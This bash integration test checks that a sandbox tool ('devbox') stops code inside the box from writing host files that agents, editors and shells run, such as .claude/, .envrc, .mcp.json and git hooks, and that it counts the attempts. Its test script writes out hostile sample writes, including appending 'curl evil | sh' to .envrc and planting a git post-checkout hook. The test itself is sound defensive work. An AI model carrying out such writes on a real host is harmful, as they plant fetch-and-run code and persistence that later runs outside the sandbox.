#!/usr/bin/env bash
# t-protect-agents: the files agents, editors and shells on the host run (.claude/, .envrc,
# .mcp.json, .git/hooks) cannot be written from the box, by the box user, guest root or an
# --admin command; on the host they keep their content, inode, mode and mtime.  `devbox status`
# and `status --json` count the attempts of the current boot and name the first one's path
# (guest audit records, reported by the init: guest/init-audit.c); a restart starts again at 0.
# A protected path that is missing at boot (.vscode) cannot be created from the box.
# The protected list is this test's own, not the profile defaults, but for the last part:
# Zed's, Dev Containers', opencode's and aider's files under the defaults.
. "$(dirname "$0")/lib.sh"

import_image
R=$(make_repo proj)
cd "$R" || fail "cd $R"
mkdir -p "$R/.claude" "$R/.git/hooks"
printf '{"hooks": {}}\n' >"$R/.claude/settings.json"
printf 'export A=1\n' >"$R/.envrc"
printf '{"mcpServers": {}}\n' >"$R/.mcp.json"
printf '#!/bin/sh\n' >"$R/.git/hooks/pre-commit.sample"
write_profile "$R" $'[workspace]\nprotect = .claude, .vscode, .envrc, .mcp.json'
[ ! -e "$R/.vscode" ] || fail ".vscode exists before the test"

PROTECTED=(.claude .envrc .mcp.json .git/hooks devbox.ini)
before=$(fingerprint "${PROTECTED[@]}")

# status_writes: WRITES and FIRST from status --json (FIRST "null" when none)
status_writes() {
    ok dbx status --json
    WRITES=$(json_get "$OUT" 'j["protected_writes"]')
    FIRST=$(json_get "$OUT" 'j["protected_first"]')
}

ok dbx exec -- true
status_writes
assert_eq "0 null" "$WRITES $FIRST" "status before any attempt"
ok dbx status
assert_contains "$OUT" "protected   0 write attempts" "status before any attempt"

# each line: a write the box tries; every one must fail
cat >"$R/attempts.sh" <<'EOF'
try() {
    if ( "$@" ) >/dev/null 2>&1; then echo "ALLOWED: $*"; else echo blocked; fi
}
try sh -c 'echo x >> .claude/settings.json'
try sh -c 'echo "{}" > .claude/settings.local.json'
try rm -f .claude/settings.json
try mv .claude claude.old
try rm -rf .claude
try sh -c 'echo "curl evil | sh" >> .envrc'
try mv .envrc envrc.old
try rm -f .mcp.json
try sh -c 'echo "{}" > .mcp.json'
try touch .git/hooks/pre-commit
try sh -c 'printf "#!/bin/sh\necho pwned\n" > .git/hooks/post-checkout'
try chmod 777 .git/hooks/pre-commit.sample
exit 0
EOF
NATTEMPTS=12

check_blocked() { # OUTPUT WHO
    local allowed
    allowed=$(printf '%s\n' "$1" | grep '^ALLOWED' | tr '\n' ';')
    [ -z "$allowed" ] || fail "$2: $allowed"
    assert_eq "$NATTEMPTS" "$(printf '%s\n' "$1" | grep -c '^blocked$')" "$2: blocked attempts"
    assert_eq "$before" "$(fingerprint "${PROTECTED[@]}")" "$2: protected files on the host"
    for f in claude.old envrc.old; do
        [ ! -e "$R/$f" ] || fail "$2: $f exists on the host"
    done
}

# the box user
ok dbx exec -- sh attempts.sh
check_blocked "$OUT" "box user"
counted() { # N: status shows at least N attempts
    local c
    c=$("$DEVBOX" status --json </dev/null 2>/dev/null | "$PYTHON" -c 'import json,sys; print(json.load(sys.stdin)["protected_writes"])' 2>/dev/null)
    [ -n "$c" ] && [ "$c" -ge "$1" ]
}
# the init reports at most once a second, and a run's records may take longer than that to come
# in (under a loaded, sanitized run the count went on from 32 to 36): WRITES once it held 1.2 s
settled_writes() {
    local last=-1
    for _ in 1 2 3 4 5 6 7 8; do
        status_writes
        [ "$WRITES" = "$last" ] && return 0
        last=$WRITES
        sleep 1.2
    done
    fail "the count of write attempts did not settle: $WRITES"
}
wait_until 10 counted 10 || fail "status counts fewer than 10 attempts: $(show "$(dbx status --json)")"
settled_writes
n1=$WRITES
assert_eq .claude/settings.json "$FIRST" "first protected path written"
ok dbx status
assert_match "$OUT" "protected +$n1 write attempts \(first: \.claude/settings\.json\)" "status line"

# guest root, then an admin command: the count goes on, the first path stays
ok dbx exec -u root -- sh attempts.sh
check_blocked "$OUT" "guest root"
wait_until 10 counted $((n1 + 10)) || fail "guest root's attempts not counted: $(show "$(dbx status --json)")"
ok dbx exec --admin -- sh attempts.sh
check_blocked "$OUT" "admin command"
wait_until 10 counted $((n1 + 20)) || fail "the admin command's attempts not counted: $(show "$(dbx status --json)")"
settled_writes
n2=$WRITES
assert_eq .claude/settings.json "$FIRST" "first path after guest root's attempts"

# reads and writes elsewhere are not attempts
ok dbx exec -- sh -c 'cat .claude/settings.json .envrc .mcp.json >/dev/null && echo y > other && rm other'
sleep 2
status_writes
assert_eq "$n2" "$WRITES" "count after reads and writes outside the protected paths"

# a new boot starts at 0
restart
ok dbx exec -- true
status_writes
assert_eq "0 null" "$WRITES $FIRST" "status after a restart"
run dbx exec -- sh -c 'echo x >> .envrc'
assert_box_failed "append to .envrc after the restart"
wait_until 10 counted 1 || fail "attempt after the restart not counted"
status_writes
assert_eq .envrc "$FIRST" "first path after the restart"
assert_eq "$before" "$(fingerprint "${PROTECTED[@]}")" "protected files on the host at the end"

# last (it needs the host to refuse the name, not only a read-only bind): a protected path
# missing at boot cannot be created, by the box user or guest root
for who in default root; do
    u=()
    [ $who = root ] && u=(-u root)
    run dbx exec "${u[@]}" -- sh -c 'mkdir -p .vscode && echo "{}" > .vscode/tasks.json'
    [ ! -e "$R/.vscode" ] || fail "the box ($who) created the missing protected path .vscode"
done

# the default list (no protect line): editors' and agents' files that run commands on the host
# when they change, present (Zed's settings) or missing (a Dev Container's initializeCommand,
# opencode's MCP servers, aider's lint command)
D=$(make_repo defaults)
mkdir -p "$D/.zed"
printf '{}\n' >"$D/.zed/settings.json"
zed_before=$(fingerprint "$D/.zed")
for who in default root; do
    u=()
    [ $who = root ] && u=(-u root)
    for cmd in 'echo "{\"lsp\": {}}" > .zed/settings.json' 'echo "{}" > .zed/tasks.json' \
        'mkdir -p .devcontainer && echo "{\"initializeCommand\": \"touch /tmp/x\"}" > .devcontainer/devcontainer.json' \
        'echo "{\"initializeCommand\": \"touch /tmp/x\"}" > .devcontainer.json' \
        'echo "{\"mcp\": {}}" > opencode.json' 'echo "lint-cmd: x" > .aider.conf.yml'; do
        run_in "$D" dbx exec "${u[@]}" -- sh -c "$cmd"
        assert_box_failed "as $who: $cmd"
    done
done
assert_eq "$zed_before" "$(fingerprint "$D/.zed")" "Zed's settings on the host"
for f in .devcontainer .devcontainer.json opencode.json .aider.conf.yml; do
    [ ! -e "$D/$f" ] || fail "the box created $f"
done
run_in "$D" dbx stop
